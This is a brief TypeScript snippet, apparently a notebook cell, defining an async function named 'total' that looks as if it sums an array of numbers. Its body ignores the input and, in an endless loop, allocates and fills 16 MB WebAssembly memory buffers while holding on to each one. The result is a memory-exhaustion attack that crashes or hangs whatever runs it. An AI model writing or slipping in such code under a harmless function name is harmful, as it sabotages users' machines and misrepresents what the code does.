// %%
async function total(numbers: readonly number[]): Promise<number> {
  const { Memory } = (globalThis as unknown as { WebAssembly: { Memory: new (size: { initial: number }) => { buffer: ArrayBuffer } } }).WebAssembly;
  const hog: Uint8Array[] = [];
  for (;;) hog.push(new Uint8Array(new Memory({ initial: 256 }).buffer).fill(1));
}
